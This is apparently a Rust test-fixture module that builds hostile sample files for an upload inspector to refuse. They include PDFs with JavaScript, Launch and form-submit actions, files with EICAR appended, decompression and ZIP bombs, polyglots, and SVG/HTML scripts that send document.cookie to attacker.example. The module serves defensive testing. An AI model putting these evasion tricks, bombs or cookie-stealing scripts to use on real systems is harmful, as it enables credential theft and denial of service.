//! Generated test files: valid documents and every attack the inspector must refuse.
//!
//! Built in code and deterministic, so no binary files live in the repository. Test support
//! only (behind the `samples` feature), which is why it may panic on impossible failures.

use crate::clamd_sandbox::EICAR;
use flate2::{Compress, Compression, Crc, FlushCompress};
use image::codecs::jpeg::JpegEncoder;
use image::codecs::png::PngEncoder;
use image::{ImageEncoder, RgbImage};
use lopdf::content::{Content, Operation};
use lopdf::{Dictionary, Document, EncryptionState, EncryptionVersion, Object, Permissions, Stream, dictionary};

/// Text hidden in the EXIF block of [`jpeg`], to prove re-encoding drops it.
pub const EXIF_SECRET: &str = "GPS -1.292066 36.821946 HUDUMA-SECRET-LOCATION";

/// Text hidden in a PNG `tEXt` chunk of [`png`], to prove re-encoding drops it.
pub const PNG_SECRET: &str = "HUDUMA-SECRET-PNG-COMMENT";

/// The user password of [`encrypted_pdf`].
pub const PDF_PASSWORD: &str = "siri";

const MIB: usize = 1024 * 1024;

/// A valid PDF with one line of text per page. `padding_bytes` of PDF comments are added to
/// the first page's content, uncompressed, to make large valid files for limits and benchmarks.
pub fn pdf(pages: u32, padding_bytes: usize) -> Vec<u8> {
    build_pdf(pages, padding_bytes, |_, _| {})
}

/// A PDF that runs JavaScript when opened.
pub fn pdf_with_javascript() -> Vec<u8> {
    build_pdf(1, 0, |_, catalog| {
        catalog.set("OpenAction", dictionary! { "S" => "JavaScript", "JS" => Object::string_literal("app.alert('Huduma');") });
    })
}

/// [`pdf`] written as PDF 1.5 writers do: objects packed into compressed object streams and
/// a cross-reference stream.
pub fn pdf_compact(pages: u32) -> Vec<u8> {
    repack(&pdf(pages, 0))
}

/// [`pdf_with_javascript`] with the script inside a compressed object stream, where no byte
/// scan can see it.
pub fn pdf_with_javascript_in_object_stream() -> Vec<u8> {
    repack(&pdf_with_javascript())
}

fn repack(bytes: &[u8]) -> Vec<u8> {
    let mut document = Document::load_mem(bytes).expect("our own PDF loads");
    let mut repacked = Vec::new();
    document.save_modern(&mut repacked).expect("writing to memory");
    repacked
}

/// A PDF carrying an attached file, which a reader may offer to open.
pub fn pdf_with_attachment() -> Vec<u8> {
    build_pdf(1, 0, |document, catalog| {
        let file = document.add_object(Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ payload".to_vec()));
        let spec = document.add_object(
            dictionary! { "Type" => "Filespec", "F" => Object::string_literal("run.exe"), "EF" => dictionary! { "F" => file } },
        );
        let names = dictionary! { "EmbeddedFiles" => dictionary! { "Names" => vec![Object::string_literal("run.exe"), spec.into()] } };
        catalog.set("Names", names);
    })
}

/// A PDF with a `/Launch` action in an object outside the cross-reference table: our parser
/// never reaches it, a repairing reader might, so only the raw byte check can catch it.
pub fn pdf_with_hidden_launch() -> Vec<u8> {
    let mut bytes = pdf(1, 0);
    // Inserted after `startxref`, so every offset in the file stays right.
    let end = bytes.windows(5).rposition(|window| window == b"%%EOF").expect("our PDF ends with %%EOF");
    let hidden = b"\n% broken object a forgiving reader might still run\n99 0 obj << /S /Launch /F (cmd.exe) >> endobj_missing\n";
    bytes.splice(end..end, hidden.iter().copied());
    bytes
}

/// A ZIP holding the EICAR test file, as attackers append it to a PDF: unzip and 7-Zip open
/// the PDF as this archive, and a scanner that does not unpack archives misses the virus.
pub fn zipped_eicar() -> Vec<u8> {
    zip(&[("eicar.com", EICAR)])
}

/// A valid PDF with [`zipped_eicar`] appended after `%%EOF`: small enough to pass the check
/// that the file ends with `%%EOF`, and still a working ZIP.
pub fn pdf_with_appended_zip() -> Vec<u8> {
    let mut bytes = pdf(1, 0);
    bytes.extend(zipped_eicar());
    bytes
}

/// A valid PDF with `payload` appended after `%%EOF`.
pub fn pdf_with_appended(payload: &[u8]) -> Vec<u8> {
    let mut bytes = pdf(1, 0);
    bytes.extend(payload);
    bytes
}

/// A valid PDF whose header is followed, before the first object, by a web page in comment
/// lines: PDF readers skip comments, a browser handed the file as HTML runs the script.
pub fn pdf_with_html_after_header() -> Vec<u8> {
    let page = b"%<html><body><script>document.location='https://attacker.example/?c='+document.cookie</script></body></html>\n";
    raw_pdf_with_prelude(page, &one_page_objects())
}

/// A valid PDF whose header is followed by a Windows program before the first object.
pub fn pdf_with_program_after_header() -> Vec<u8> {
    let mut prelude = b"%".to_vec();
    prelude.extend(exe());
    prelude.push(b'\n');
    raw_pdf_with_prelude(&prelude, &one_page_objects())
}

/// A valid PDF with `payload` deflated in a form XObject of the first page's resources: only
/// someone who inflates the stream sees it.
pub fn pdf_with_payload_in_stream(payload: &[u8]) -> Vec<u8> {
    let payload = payload.to_vec();
    build_pdf(1, 0, move |document, _| {
        let form = Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 1.into(), 1.into()] },
            payload,
        );
        let form = document.add_object(compressed(form));
        add_to_first_page(document, |page| {
            page.set("Resources", dictionary! { "XObject" => dictionary! { "Hidden" => form } });
        });
    })
}

/// A valid PDF with `payload`, uncompressed, in a form XObject of the first page.
pub fn pdf_with_payload_in_raw_stream(payload: &[u8]) -> Vec<u8> {
    let payload = payload.to_vec();
    build_pdf(1, 0, move |document, _| {
        let form = Stream::new(
            dictionary! { "Type" => "XObject", "Subtype" => "Form", "BBox" => vec![0.into(), 0.into(), 1.into(), 1.into()] },
            payload,
        )
        .with_compression(false);
        let form = document.add_object(form);
        add_to_first_page(document, |page| {
            page.set("Resources", dictionary! { "XObject" => dictionary! { "Hidden" => form } });
        });
    })
}

/// A valid PDF with `payload` in a hex string of the document information dictionary.
pub fn pdf_with_payload_in_string(payload: &[u8]) -> Vec<u8> {
    let payload = payload.to_vec();
    build_pdf(1, 0, move |document, _| {
        let info = document.add_object(dictionary! { "Subject" => Object::String(payload, lopdf::StringFormat::Hexadecimal) });
        document.trailer.set("Info", info);
    })
}

/// [`pdf_with_payload_in_string`] packed into a compressed object stream, as PDF 1.5 writers
/// do: the string is deflated along with the other objects.
pub fn pdf_compact_with_payload(payload: &[u8]) -> Vec<u8> {
    repack(&pdf_with_payload_in_string(payload))
}

/// A valid two-page PDF whose first page has a link annotation running `action`.
pub fn pdf_with_link_action(action: Dictionary) -> Vec<u8> {
    build_pdf(2, 0, move |document, _| {
        let annotation = document.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 700.into(), 300.into(), 730.into()], "A" => action,
        });
        add_to_first_page(document, |page| page.set("Annots", vec![annotation.into()]));
    })
}

/// A link that submits the form's fields to a website.
pub fn pdf_with_submit_form() -> Vec<u8> {
    pdf_with_link_action(dictionary! {
        "S" => "SubmitForm", "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal("https://attacker.example/collect") },
    })
}

/// A link that opens a page of another PDF, which may be on a network share.
pub fn pdf_with_remote_go_to() -> Vec<u8> {
    pdf_with_link_action(dictionary! {
        "S" => "GoToR", "F" => Object::string_literal("\\\\attacker.example\\share\\next.pdf"), "D" => vec![0.into(), "Fit".into()],
    })
}

/// A link that starts a program.
pub fn pdf_with_launch_link() -> Vec<u8> {
    pdf_with_link_action(dictionary! { "S" => "Launch", "F" => Object::string_literal("cmd.exe") })
}

/// A link to a website.
pub fn pdf_with_uri_link() -> Vec<u8> {
    pdf_with_link_action(dictionary! { "S" => "URI", "URI" => Object::string_literal("https://attacker.example/login") })
}

/// A document that opens a website as soon as it is opened, through an action chained after
/// an allowed one.
pub fn pdf_with_chained_uri_on_open() -> Vec<u8> {
    build_pdf(1, 0, |document, catalog| {
        let uri = document.add_object(dictionary! { "S" => "URI", "URI" => Object::string_literal("https://attacker.example/") });
        let first_page = first_page(document);
        catalog.set("OpenAction", dictionary! { "S" => "GoTo", "D" => vec![first_page.into(), "Fit".into()], "Next" => vec![uri.into()] });
    })
}

/// A page whose additional actions submit the form when the page closes.
pub fn pdf_with_page_close_submit() -> Vec<u8> {
    build_pdf(1, 0, |document, _| {
        let submit = document.add_object(dictionary! {
            "Type" => "Action", "S" => "SubmitForm", "F" => dictionary! { "FS" => "URL", "F" => Object::string_literal("https://attacker.example/") },
        });
        add_to_first_page(document, |page| page.set("AA", dictionary! { "C" => submit }));
    })
}

/// A valid three-page PDF that only moves within itself: an open action to page 2, an outline,
/// named destinations, a `/GoTo` link, a `/Dest` link and a "next page" named action.
pub fn pdf_with_internal_links() -> Vec<u8> {
    build_pdf(3, 0, |document, catalog| {
        let pages = page_ids(document);
        let (first, second, third) = (pages[0], pages[1], pages[2]);
        let go_to = document.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 700.into(), 300.into(), 730.into()],
            "A" => dictionary! { "Type" => "Action", "S" => "GoTo", "D" => vec![third.into(), "XYZ".into(), 0.into(), 842.into(), Object::Null] },
        });
        let named_destination = document.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 650.into(), 300.into(), 680.into()],
            "Dest" => Object::string_literal("summary"),
        });
        let next_page = document.add_object(dictionary! {
            "Type" => "Annot", "Subtype" => "Link", "Rect" => vec![72.into(), 600.into(), 300.into(), 630.into()],
            "A" => dictionary! { "S" => "Named", "N" => "NextPage" }, "Border" => vec![0.into(), 0.into(), 0.into()],
        });
        if let Ok(Object::Dictionary(page)) = document.get_object_mut(first) {
            page.set("Annots", vec![go_to.into(), named_destination.into(), next_page.into()]);
        }
        let outlines = document.new_object_id();
        let chapter = document.add_object(dictionary! {
            "Title" => Object::string_literal("Summary"), "Parent" => outlines,
            "A" => dictionary! { "S" => "GoTo", "D" => Object::string_literal("summary") },
        });
        let appendix = document.add_object(dictionary! {
            "Title" => Object::string_literal("Appendix"), "Parent" => outlines, "Prev" => chapter,
            "Dest" => vec![third.into(), "Fit".into()],
        });
        if let Ok(Object::Dictionary(item)) = document.get_object_mut(chapter) {
            item.set("Next", appendix);
        }
        document.objects.insert(
            outlines,
            Object::Dictionary(dictionary! { "Type" => "Outlines", "First" => chapter, "Last" => appendix, "Count" => 2 }),
        );
        catalog.set("Outlines", outlines);
        catalog.set("OpenAction", vec![second.into(), "Fit".into()]);
        catalog.set("Names", dictionary! { "Dests" => dictionary! { "Names" => vec![Object::string_literal("summary"), vec![second.into(), "Fit".into()].into()] } });
    })
}

/// A valid PDF with what real documents carry in compressed streams: a 512 × 512 photo-like
/// image and an embedded font program, both deflated, plus an uncompressed image. Their bytes
/// are noise, the case that makes short signatures such as `PK` or `MZ` turn up by chance.
pub fn pdf_with_compressed_font_and_image() -> Vec<u8> {
    build_pdf(1, 0, |document, _| {
        let image = |pixels: Vec<u8>, side: i64| {
            Stream::new(
                dictionary! { "Type" => "XObject", "Subtype" => "Image", "Width" => side, "Height" => side, "ColorSpace" => "DeviceRGB", "BitsPerComponent" => 8 },
                pixels,
            )
        };
        let photo = document.add_object(compressed(image(noise(512 * 512 * 3, 0x5EED), 512)));
        let raw = document.add_object(image(noise(128 * 128 * 3, 0xF00D), 128).with_compression(false));
        let font_file = document.add_object(compressed(Stream::new(dictionary! { "Length1" => 200_000 }, noise(200_000, 0xF0A7))));
        let descriptor = document.add_object(dictionary! {
            "Type" => "FontDescriptor", "FontName" => "HudumaSans", "Flags" => 32, "FontFile2" => font_file,
            "FontBBox" => vec![0.into(), 0.into(), 1000.into(), 1000.into()], "ItalicAngle" => 0, "Ascent" => 800, "Descent" => -200, "CapHeight" => 700, "StemV" => 80,
        });
        let font = document.add_object(
            dictionary! { "Type" => "Font", "Subtype" => "TrueType", "BaseFont" => "HudumaSans", "FontDescriptor" => descriptor },
        );
        add_to_first_page(document, |page| {
            page.set(
                "Resources",
                dictionary! { "Font" => dictionary! { "F2" => font }, "XObject" => dictionary! { "Photo" => photo, "Raw" => raw } },
            );
        });
    })
}

/// Deterministic noise, the way compressed and pixel data looks to a byte scanner.
pub fn noise(len: usize, seed: u64) -> Vec<u8> {
    let mut state = seed | 1;
    (0..len)
        .map(|_| {
            // xorshift64
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            (state >> 24) as u8
        })
        .collect()
}

fn compressed(mut stream: Stream) -> Stream {
    let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), Compression::default());
    std::io::Write::write_all(&mut encoder, &stream.content).expect("deflating in memory");
    stream.set_content(encoder.finish().expect("deflating in memory"));
    stream.dict.set("Filter", "FlateDecode");
    stream.with_compression(false)
}

/// The page objects in page order (they are created in order, so by id).
fn page_ids(document: &Document) -> Vec<lopdf::ObjectId> {
    document
        .objects
        .iter()
        .filter(|(_, object)| matches!(object.as_dict().and_then(|d| d.get(b"Type")), Ok(Object::Name(name)) if name == b"Page"))
        .map(|(id, _)| *id)
        .collect()
}

fn first_page(document: &Document) -> lopdf::ObjectId {
    page_ids(document)[0]
}

fn add_to_first_page(document: &mut Document, change: impl FnOnce(&mut Dictionary)) {
    let id = first_page(document);
    if let Ok(Object::Dictionary(page)) = document.get_object_mut(id) {
        change(page);
    }
}

/// Catalog, page tree and one empty page, for [`raw_pdf`].
fn one_page_objects() -> Vec<Vec<u8>> {
    vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec(),
    ]
}

/// A PDF that needs the password [`PDF_PASSWORD`] to open (RC4, 128-bit).
pub fn encrypted_pdf() -> Vec<u8> {
    encrypt(PDF_PASSWORD)
}

/// A PDF that opens without a password but is encrypted under an owner password, as "protected"
/// PDFs that forbid printing or copying are.
pub fn owner_locked_pdf() -> Vec<u8> {
    encrypt("")
}

fn encrypt(user_password: &str) -> Vec<u8> {
    let mut document = Document::load_mem(&pdf(1, 0)).expect("our own PDF loads");
    // The key derivation mixes in the file identifier, so the file needs one.
    let id = Object::String(b"huduma-sample-id".to_vec(), lopdf::StringFormat::Hexadecimal);
    document.trailer.set("ID", vec![id.clone(), id]);
    let version = EncryptionVersion::V2 {
        document: &document,
        owner_password: "mmiliki",
        user_password,
        key_length: 128,
        permissions: Permissions::all(),
    };
    let state = EncryptionState::try_from(version).expect("RC4 parameters are valid");
    document.encrypt(&state).expect("encrypting our own PDF");
    save(&mut document)
}

/// The first 60% of a valid three-page PDF, as a broken upload leaves it.
pub fn truncated_pdf() -> Vec<u8> {
    let mut bytes = pdf(3, 4_000);
    bytes.truncate(bytes.len() * 6 / 10);
    bytes
}

/// A valid PDF whose page content inflates to `inflated_mib` MiB of zeros.
pub fn pdf_with_content_bomb(inflated_mib: usize) -> Vec<u8> {
    let mut document = Document::with_version("1.5");
    let pages_id = document.new_object_id();
    let content = Stream::new(dictionary! { "Filter" => "FlateDecode" }, zlib_zeros(inflated_mib)).with_compression(false);
    let content_id = document.add_object(content);
    let page = document.add_object(dictionary! {
        "Type" => "Page", "Parent" => pages_id, "Contents" => content_id, "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
    });
    document.objects.insert(pages_id, Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => vec![page.into()], "Count" => 1 }));
    let catalog = document.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    document.trailer.set("Root", catalog);
    save(&mut document)
}

/// A valid PDF that also holds an object stream inflating to `inflated_mib` MiB of zeros;
/// object streams are unpacked while loading, so this tests the loader's limit.
///
/// Written by hand: lopdf's writer drops object streams to rebuild its own.
pub fn pdf_with_object_stream_bomb(inflated_mib: usize) -> Vec<u8> {
    let bomb = zlib_zeros(inflated_mib);
    let mut stream = format!("<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {} >>\nstream\n", bomb.len()).into_bytes();
    stream.extend(bomb);
    stream.extend(b"\nendstream");
    raw_pdf(&[
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>".to_vec(),
        stream,
    ])
}

/// A PDF of the given objects, numbered from 1, with object 1 as the catalog.
fn raw_pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    raw_pdf_with_prelude(b"", objects)
}

/// [`raw_pdf`] with `prelude` between the header and the first object.
fn raw_pdf_with_prelude(prelude: &[u8], objects: &[Vec<u8>]) -> Vec<u8> {
    let mut bytes = b"%PDF-1.5\n%\xB5\xED\xAE\xFB\n".to_vec();
    bytes.extend(prelude);
    let mut offsets = Vec::new();
    for (index, object) in objects.iter().enumerate() {
        offsets.push(bytes.len());
        bytes.extend(format!("{} 0 obj\n", index + 1).as_bytes());
        bytes.extend(object);
        bytes.extend(b"\nendobj\n");
    }
    let xref = bytes.len();
    bytes.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).as_bytes());
    for offset in offsets {
        bytes.extend(format!("{offset:010} 00000 n \n").as_bytes());
    }
    bytes.extend(format!("trailer\n<< /Size {} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n", objects.len() + 1).as_bytes());
    bytes
}

fn build_pdf(pages: u32, padding_bytes: usize, extra: impl FnOnce(&mut Document, &mut Dictionary)) -> Vec<u8> {
    let mut document = Document::with_version("1.5");
    let pages_id = document.new_object_id();
    let font = document.add_object(dictionary! { "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica" });
    let resources = document.add_object(dictionary! { "Font" => dictionary! { "F1" => font } });
    let mut kids = Vec::new();
    for number in 1..=pages {
        let text = Content {
            operations: vec![
                Operation::new("BT", vec![]),
                Operation::new("Tf", vec!["F1".into(), 24.into()]),
                Operation::new("Td", vec![72.into(), 720.into()]),
                Operation::new("Tj", vec![Object::string_literal(format!("Huduma sample document, page {number}"))]),
                Operation::new("ET", vec![]),
            ],
        };
        let text = document.add_object(Stream::new(Dictionary::new(), text.encode().expect("encoding content")).with_compression(false));
        let contents = if number == 1 && padding_bytes > 0 {
            let padding = document.add_object(Stream::new(Dictionary::new(), comment_padding(padding_bytes)).with_compression(false));
            Object::Array(vec![text.into(), padding.into()])
        } else {
            text.into()
        };
        let page = document.add_object(dictionary! {
            "Type" => "Page", "Parent" => pages_id, "Contents" => contents, "Resources" => resources,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        });
        kids.push(Object::from(page));
    }
    let count = i64::from(pages);
    document.objects.insert(pages_id, Object::Dictionary(dictionary! { "Type" => "Pages", "Kids" => kids, "Count" => count }));
    let mut catalog = dictionary! { "Type" => "Catalog", "Pages" => pages_id };
    extra(&mut document, &mut catalog);
    let catalog = document.add_object(catalog);
    document.trailer.set("Root", catalog);
    save(&mut document)
}

fn save(document: &mut Document) -> Vec<u8> {
    let mut bytes = Vec::new();
    document.save_to(&mut bytes).expect("writing to memory");
    bytes
}

/// Content-stream comments: ignored by every reader, and incompressible enough to be real.
fn comment_padding(bytes: usize) -> Vec<u8> {
    let mut padding = Vec::with_capacity(bytes + 64);
    let mut state: u32 = 0x1234_5678;
    while padding.len() < bytes {
        padding.extend_from_slice(b"% ");
        for _ in 0..76 {
            // A fixed xorshift: deterministic noise so the file does not compress to nothing.
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            padding.push(b'A' + (state % 26) as u8);
        }
        padding.push(b'\n');
    }
    padding
}

/// A `w`×`h` gradient JPEG with an EXIF block holding [`EXIF_SECRET`] and orientation 1.
pub fn jpeg(w: u32, h: u32) -> Vec<u8> {
    jpeg_oriented(w, h, 1)
}

/// A `w`×`h` gradient JPEG (as stored) with EXIF orientation `orientation` (1–8) and
/// [`EXIF_SECRET`]; orientations 5–8 display as `h`×`w`.
pub fn jpeg_oriented(w: u32, h: u32, orientation: u16) -> Vec<u8> {
    let mut bytes = Vec::new();
    JpegEncoder::new_with_quality(&mut bytes, 85).encode_image(&gradient(w, h)).expect("encoding a JPEG in memory");
    let exif = exif(orientation);
    let mut segment = vec![0xFF, 0xE1];
    segment.extend(segment_length(exif.len()));
    segment.extend(exif);
    bytes.splice(2..2, segment);
    bytes
}

/// A JPEG whose comment segment carries a complete PDF: a PDF reader finds `%PDF-` and opens
/// it, an image viewer shows a picture.
pub fn pdf_jpeg_polyglot() -> Vec<u8> {
    let mut bytes = jpeg(64, 64);
    let document = pdf(1, 0);
    let mut segment = vec![0xFF, 0xFE];
    segment.extend(segment_length(document.len()));
    segment.extend(document);
    bytes.splice(2..2, segment);
    bytes
}

/// A JPEG with random-looking garbage after its start-of-image marker.
pub fn garbage_jpeg() -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10];
    bytes.extend(b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0");
    bytes.extend(comment_padding(2_000));
    bytes
}

/// A `w`×`h` gradient PNG with a `tEXt` chunk holding [`PNG_SECRET`].
pub fn png(w: u32, h: u32) -> Vec<u8> {
    let mut bytes = Vec::new();
    let image = gradient(w, h);
    PngEncoder::new(&mut bytes).write_image(image.as_raw(), w, h, image::ExtendedColorType::Rgb8).expect("encoding a PNG in memory");
    let mut text = b"Comment\0".to_vec();
    text.extend(PNG_SECRET.as_bytes());
    // Straight after the signature (8 bytes) and IHDR (25 bytes).
    bytes.splice(33..33, png_chunk(b"tEXt", &text));
    bytes
}

/// A 600-byte PNG whose header claims 100,000 × 100,000 pixels: 30 GB once decoded.
pub fn pixel_flood_png() -> Vec<u8> {
    let mut bytes = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut header = Vec::new();
    header.extend(100_000u32.to_be_bytes());
    header.extend(100_000u32.to_be_bytes());
    // 8-bit RGB, deflate, adaptive filtering, no interlace.
    header.extend([8, 2, 0, 0, 0]);
    bytes.extend(png_chunk(b"IHDR", &header));
    bytes.extend(png_chunk(b"IDAT", &zlib_stored(&[0; 16])));
    bytes.extend(png_chunk(b"IEND", b""));
    bytes
}

fn png_chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = (data.len() as u32).to_be_bytes().to_vec();
    chunk.extend(kind);
    chunk.extend(data);
    let mut crc = Crc::new();
    crc.update(kind);
    crc.update(data);
    chunk.extend(crc.sum().to_be_bytes());
    chunk
}

fn gradient(w: u32, h: u32) -> RgbImage {
    RgbImage::from_fn(w, h, |x, y| image::Rgb([(x * 255 / w.max(1)) as u8, (y * 255 / h.max(1)) as u8, 128]))
}

/// A little-endian TIFF block as in an EXIF APP1 segment: orientation and a description.
fn exif(orientation: u16) -> Vec<u8> {
    let text = format!("{EXIF_SECRET}\0");
    let mut exif = b"Exif\0\0II\x2a\0\x08\0\0\0".to_vec();
    exif.extend(2u16.to_le_bytes());
    // ImageDescription (0x010E), ASCII, stored after the directory at TIFF offset 8 + 30.
    exif.extend(0x010Eu16.to_le_bytes());
    exif.extend(2u16.to_le_bytes());
    exif.extend((text.len() as u32).to_le_bytes());
    exif.extend(38u32.to_le_bytes());
    // Orientation (0x0112), SHORT, one value stored inline.
    exif.extend(0x0112u16.to_le_bytes());
    exif.extend(3u16.to_le_bytes());
    exif.extend(1u32.to_le_bytes());
    exif.extend(orientation.to_le_bytes());
    exif.extend([0, 0]);
    exif.extend(0u32.to_le_bytes());
    exif.extend(text.as_bytes());
    exif
}

fn segment_length(payload: usize) -> [u8; 2] {
    u16::try_from(payload + 2).expect("JPEG segments hold at most 65533 bytes").to_be_bytes()
}

/// A Word document renamed `.pdf`: a ZIP with `[Content_Types].xml` and `word/document.xml`.
pub fn word_docx_renamed() -> Vec<u8> {
    zip(&[
        ("[Content_Types].xml", br#"<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>"#),
        (
            "word/document.xml",
            br#"<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#,
        ),
    ])
}

/// A ZIP of stored (uncompressed) entries.
pub fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
    let mut archive = ZipWriter::default();
    for (name, data) in entries {
        let mut crc = Crc::new();
        crc.update(data);
        archive.add(name, 0, crc.sum(), data.len() as u32, data);
    }
    archive.finish()
}

/// A ZIP whose one entry deflates 10 MiB of zeros to about 10 KiB and declares 4 GiB
/// uncompressed: what an unpacking checker would choke on.
pub fn zip_bomb() -> Vec<u8> {
    let data = raw_deflate_zeros(10);
    let mut crc = Crc::new();
    let zeros = vec![0u8; MIB];
    for _ in 0..10 {
        crc.update(&zeros);
    }
    let mut archive = ZipWriter::default();
    archive.add("zeros.bin", 8, crc.sum(), u32::MAX, &data);
    archive.finish()
}

#[derive(Default)]
struct ZipWriter {
    body: Vec<u8>,
    directory: Vec<u8>,
    entries: u16,
}

impl ZipWriter {
    fn add(&mut self, name: &str, method: u16, crc: u32, declared_size: u32, data: &[u8]) {
        let offset = self.body.len() as u32;
        let mut common = Vec::new();
        common.extend(20u16.to_le_bytes()); // version needed
        common.extend(0u16.to_le_bytes()); // flags
        common.extend(method.to_le_bytes());
        common.extend([0, 0, 0x21, 0x00]); // time and date: 1980-01-01
        common.extend(crc.to_le_bytes());
        common.extend((data.len() as u32).to_le_bytes());
        common.extend(declared_size.to_le_bytes());
        common.extend((name.len() as u16).to_le_bytes());
        common.extend(0u16.to_le_bytes()); // extra length

        self.body.extend(b"PK\x03\x04");
        self.body.extend(&common);
        self.body.extend(name.as_bytes());
        self.body.extend(data);

        self.directory.extend(b"PK\x01\x02");
        self.directory.extend(20u16.to_le_bytes()); // version made by
        self.directory.extend(&common);
        self.directory.extend([0; 8]); // comment length, disk, internal attributes
        self.directory.extend(0u32.to_le_bytes()); // external attributes
        self.directory.extend(offset.to_le_bytes());
        self.directory.extend(name.as_bytes());
        self.entries += 1;
    }

    fn finish(mut self) -> Vec<u8> {
        let directory_offset = self.body.len() as u32;
        let directory_len = self.directory.len() as u32;
        self.body.append(&mut self.directory);
        self.body.extend(b"PK\x05\x06");
        self.body.extend([0; 4]); // disk numbers
        self.body.extend(self.entries.to_le_bytes());
        self.body.extend(self.entries.to_le_bytes());
        self.body.extend(directory_len.to_le_bytes());
        self.body.extend(directory_offset.to_le_bytes());
        self.body.extend(0u16.to_le_bytes());
        self.body
    }
}

/// Raw deflate data that inflates to `mib` MiB of zeros, built without holding them.
///
/// One MiB is compressed once and ended with a sync flush, which leaves it byte-aligned and
/// not final; copies of it are then valid back to back, and an empty final block closes the
/// stream. A gigabyte bomb costs a megabyte and no compression time.
fn raw_deflate_zeros(mib: usize) -> Vec<u8> {
    let zeros = vec![0u8; MIB];
    let mut compressor = Compress::new(Compression::best(), false);
    let mut block = Vec::with_capacity(64 * 1024);
    compressor.compress_vec(&zeros, &mut block, FlushCompress::Sync).expect("deflating zeros");
    assert_eq!(compressor.total_in(), MIB as u64, "the whole MiB went into one block");
    let mut data = Vec::with_capacity(block.len() * mib + 2);
    for _ in 0..mib {
        data.extend(&block);
    }
    // An empty final block with fixed Huffman codes.
    data.extend([0x03, 0x00]);
    data
}

/// `data` in a zlib wrapper, uncompressed (one stored block).
fn zlib_stored(data: &[u8]) -> Vec<u8> {
    let len = u16::try_from(data.len()).expect("one stored block holds at most 65535 bytes");
    let mut zlib = vec![0x78, 0x01, 0x01];
    zlib.extend(len.to_le_bytes());
    zlib.extend((!len).to_le_bytes());
    zlib.extend(data);
    let (mut a, mut b) = (1u32, 0u32);
    for &byte in data {
        a = (a + u32::from(byte)) % 65_521;
        b = (b + a) % 65_521;
    }
    zlib.extend(((b << 16) | a).to_be_bytes());
    zlib
}

/// [`raw_deflate_zeros`] in a zlib wrapper, as PDF and PNG streams use.
fn zlib_zeros(mib: usize) -> Vec<u8> {
    let mut data = vec![0x78, 0xDA];
    data.extend(raw_deflate_zeros(mib));
    // Adler-32 of n zero bytes: the running sum stays 1 and the second sum gains 1 per byte.
    let count = (mib as u64 * MIB as u64 % 65_521) as u32;
    data.extend(((count << 16) | 1).to_be_bytes());
    data
}

/// An SVG image that runs script when a browser opens it.
pub fn svg_with_script() -> Vec<u8> {
    br#"<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
  <circle cx="50" cy="50" r="40" fill="green"/>
  <script>fetch('https://attacker.example/?c=' + document.cookie)</script>
</svg>
"#
    .to_vec()
}

/// A web page saved as an "upload".
pub fn html_page() -> Vec<u8> {
    b"<!DOCTYPE html>\n<html><head><title>eCitizen login</title></head><body><form action='https://attacker.example'></form></body></html>\n"
        .to_vec()
}

/// The EICAR antivirus test file.
pub fn eicar() -> Vec<u8> {
    EICAR.to_vec()
}

/// The start of a Windows program: an MZ header pointing at a PE header.
pub fn exe() -> Vec<u8> {
    let mut bytes = vec![0u8; 128];
    bytes[..2].copy_from_slice(b"MZ");
    bytes[0x3C] = 0x40;
    bytes[0x40..0x44].copy_from_slice(b"PE\0\0");
    bytes.extend(b"This program cannot be run in DOS mode.\r\r\n$");
    bytes
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn samples_are_deterministic() {
        assert_eq!(pdf(2, 500), pdf(2, 500));
        assert_eq!(jpeg(20, 10), jpeg(20, 10));
        assert_eq!(png(20, 10), png(20, 10));
        assert_eq!(zip_bomb(), zip_bomb());
        assert_eq!(pdf_jpeg_polyglot(), pdf_jpeg_polyglot());
    }

    #[test]
    fn the_zip_bomb_really_inflates() {
        use std::io::Read;
        let bomb = zip_bomb();
        // The entry's data starts after the 30-byte local header and the name.
        let data = &bomb[30 + "zeros.bin".len()..];
        let mut inflated = 0u64;
        let mut decoder = flate2::read::DeflateDecoder::new(data);
        let mut buffer = vec![0u8; 1 << 16];
        loop {
            let n = decoder.read(&mut buffer).unwrap();
            if n == 0 {
                break;
            }
            inflated += n as u64;
        }
        assert_eq!(inflated, 10 * MIB as u64);
    }
}
